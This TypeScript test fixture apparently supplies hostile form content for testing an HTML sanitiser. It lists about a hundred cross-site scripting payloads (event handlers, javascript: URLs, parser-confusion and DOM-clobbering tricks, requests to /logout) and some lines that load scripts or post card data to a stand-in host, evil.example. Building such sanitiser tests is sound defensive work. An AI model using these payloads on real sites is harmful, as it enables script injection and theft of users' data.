// What a hostile author writes into a form.

/** Texts in HTML that would run code, call other sites or take over the page, if no part of them were removed. */
export const ATTACKS: readonly string[] = [
  '<script>ran="script"</script>',
  '<SCRIPT>ran="upper case"</SCRIPT>',
  '<scr<script>ipt>ran="nested"</scr</script>ipt>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">globalThis.ran="module"</script>',
  '<script\n>ran="line break"</script\t>',
  '<img src="x" onerror="ran=1">',
  '<img src=x onerror=ran=1//',
  '<img src=x:x onerror="&#114;an=1">',
  '<img/src=x/onerror=ran=1>',
  '<IMG SRC="jav&#x09;ascript:ran=1">',
  '<img src="javascript:ran=1">',
  '<img srcset="x 1x" src onerror="ran=1">',
  '<image src=x onerror="ran=1">',
  '<picture><source srcset="https://evil.example/a.png"><img src=x onerror=ran=1></picture>',
  '<a href="javascript:ran=1">x</a>',
  '<a href="JaVaScRiPt:ran=1">x</a>',
  '<a href="java\nscript:ran=1">x</a>',
  '<a href=" &#14; javascript:ran=1">x</a>',
  '<a href="&#106;avascript:ran=1">x</a>',
  '<a href="javascript&colon;ran=1">x</a>',
  '<a href="\u0001javascript:ran=1">x</a>',
  '<a href="vbscript:ran=1">x</a>',
  '<a href="data:text/html,<script>parent.ran=1</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://example.com" onclick="ran=1" onfocus="ran=1" autofocus>x</a>',
  '<a href="https://example.com" ping="https://evil.example/" download>x</a>',
  '<a xlink:href="javascript:ran=1">x</a>',
  '<p onmouseover="ran=1" onpointerenter="ran=1">x</p>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0" class="submit" id="problem" name="form" slot="after" part="submit">x</p>',
  '<p is="x-p" data-hosted-form="1" tabindex="0" contenteditable accesskey="s">x</p>',
  '<p xmlns="http://www.w3.org/1999/xhtml" xml:base="javascript:ran=1//">x</p>',
  '<details open ontoggle="ran=1">x</details>',
  '<body onload="ran=1">x</body>',
  '<svg onload="ran=1"></svg>',
  '<svg><script>ran="svg"</script></svg>',
  '<svg><a xlink:href="javascript:ran=1"><text y="9">x</text></a></svg>',
  '<svg><animate onbegin="ran=1" attributeName="x" dur="1s"></svg>',
  '<svg><set attributeName="href" to="javascript:ran=1"></set></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran=1>#x"></use></svg>',
  '<svg><foreignObject><img src=x onerror=ran=1></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=ran=1>">',
  '<svg><title><style><img src=x onerror=ran=1></style></title></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=ran=1>',
  '<math href="javascript:ran=1">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=ran=1></annotation-xml></math>',
  '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran=1&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran=1 src>">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><img src=x onerror=ran=1></style>',
  '<style></style/><img src=x onerror=ran=1>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:ran=1">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:parent.ran=1"></iframe>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="javascript:ran=1"></object>',
  '<embed src="javascript:ran=1">',
  '<frameset><frame src="javascript:ran=1"></frameset>',
  '<form action="https://evil.example/"><input name="card"><button formaction="javascript:ran=1">Pay</button></form>',
  '<input autofocus onfocus="ran=1"><textarea autofocus onfocus="ran=1">x</textarea>',
  '<select autofocus onfocus="ran=1"><option>x</option></select>',
  '<video src=x onerror="ran=1"></video><audio src=x onerror="ran=1"></audio>',
  '<video><source onerror="ran=1" src="https://evil.example/x"></video>',
  '<marquee onstart="ran=1">x</marquee>',
  '<template><img src=x onerror=ran=1></template>',
  '<div><template shadowrootmode="open"><script>ran=1</script></template></div>',
  '<slot name="before"></slot><hosted-form form-id="1"></hosted-form><x-y onclick="ran=1">x</x-y>',
  '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
  '<noembed><img title="</noembed><img src=x onerror=ran=1>"></noembed>',
  '<xmp><img title="</xmp><img src=x onerror=ran=1>"></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=ran=1>"></textarea>',
  '<title><img title="</title><img src=x onerror=ran=1>"></title>',
  '<plaintext><img src=x onerror=ran=1>',
  '<!--><img src=x onerror=ran=1>-->',
  '<!--><img src=x onerror=ran=1>',
  '<![CDATA[<img src=x onerror=ran=1>]]>',
  '<?xml version="1.0"?><img src=x onerror=ran=1>',
  '<p title="&quot;&gt;&lt;img src=x onerror=ran=1&gt;">x</p>',
  '<table background="javascript:ran=1"><td background="https://evil.example/x">x</table>',
  '<table><caption><svg><style><a title="</style><img src=x onerror=ran=1>"></table>',
  '<a id="body"></a><a id="body" name="firstChild"><img name="getElementById"></a>',
  '<img name="attributes"><form><input name="attributes"></form>',
  '<img src="https://evil.example/a.png" alt="words">',
  '<img src="//evil.example/a.png" alt="words">',
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="words">',
  '<img src="/logout?x=1" alt="words">',
  '<img srcset="/logout?x=2 1x" alt="words">',
  '<picture><source srcset="/logout?x=3"><img src="/logout" alt="words"></picture>',
  '<input type="image" src="/logout?x=4">',
  '<video poster="/logout?x=5"></video>',
  '<img src="/logout" alt="words">',
  '<img src="/logout.php/a.png" alt="words">',
  '<img src="/a.png?delete=1" alt="words">',
  '<img src="/logout;a.png" alt="words">',
  '<a href="https://example.org/" target="_top">x</a>',
  '<a href="/x" target="_parent">x</a>',
  '<a href="/x" target="form" rel="opener">x</a>',
  '<a href="ftp://a.example">x</a><a href="sms:1">x</a><a href="xmpp:a@b.example">x</a><a href="x:y">x</a>',
  '<a href="about:blank">x</a><a href="https://[">x</a><a href="intent://x#Intent;end">x</a>',
];

/** Links and pictures in one text. Others would swallow what follows them. */
const MANY = `<p>Thank you.</p>${ATTACKS.filter((text) => /^<(?:img|a) /i.test(text)).join('')}`;

/** A text that is markup in no place where a form shows plain text. */
const AS_TEXT = `"'><img src=x onerror=ran=1><script>ran=1</script><a href="javascript:ran=1">\${ran=1}{{ran=1}}`;

/** Addresses of pictures for options. The first one alone may be fetched. */
export const PICTURES: readonly string[] = [
  '/pictures/icon.svg',
  '/logout?x=1',
  '/logout',
  'https://evil.example/a.png',
];

const option = (label: string, value: string, imageUrl = '') => ({ label, value, imageUrl });
const OPTIONS = [option(AS_TEXT, AS_TEXT), option('One', '1')];

/** The settings of a field that have a text of the author, each of which is shown as text. */
const TEXTS = {
  label: AS_TEXT,
  description: AS_TEXT,
  placeholder: AS_TEXT,
  section_heading: AS_TEXT,
  row_choices: `${AS_TEXT}\nRow`,
  column_choices: `${AS_TEXT}\nColumn`,
  css_class: AS_TEXT,
  icon: AS_TEXT,
};

const TYPES_OF_TEXT = [
  'text',
  'textarea',
  'email',
  'number',
  'phone',
  'name',
  'address',
  'datetime',
  'file',
  'section',
];
const TYPES_OF_OPTIONS = [
  'select',
  'radio',
  'checkbox',
  'matrix',
  'rating',
  'product',
  'creditcard',
  'signature',
  'unheard-of',
];

/** The fields of a form that is hostile in every place, in the service's JSON. */
export const HOSTILE_FIELDS: readonly object[] = [
  ...ATTACKS.map((section_text) => ({ type: 'richtext', section_text })),
  ...['section', 'embed'].map((type) => ({ type, section_text: MANY })),
  ...TYPES_OF_TEXT.map((type) => ({ type, ...TEXTS })),
  ...['text', 'textarea'].map((type) => ({ type, ...TEXTS, default: AS_TEXT })),
  ...TYPES_OF_OPTIONS.map((type) => ({ type, ...TEXTS, options: OPTIONS })),
  { type: 'radio', label: 'Pictures', use_images: '1', options: PICTURES.map((image) => option(image, image, image)) },
].map((field, index) => ({ id: String(index + 1), ...field }));

/** The hostile author's message after a submission. */
export const HOSTILE_MESSAGE = MANY;
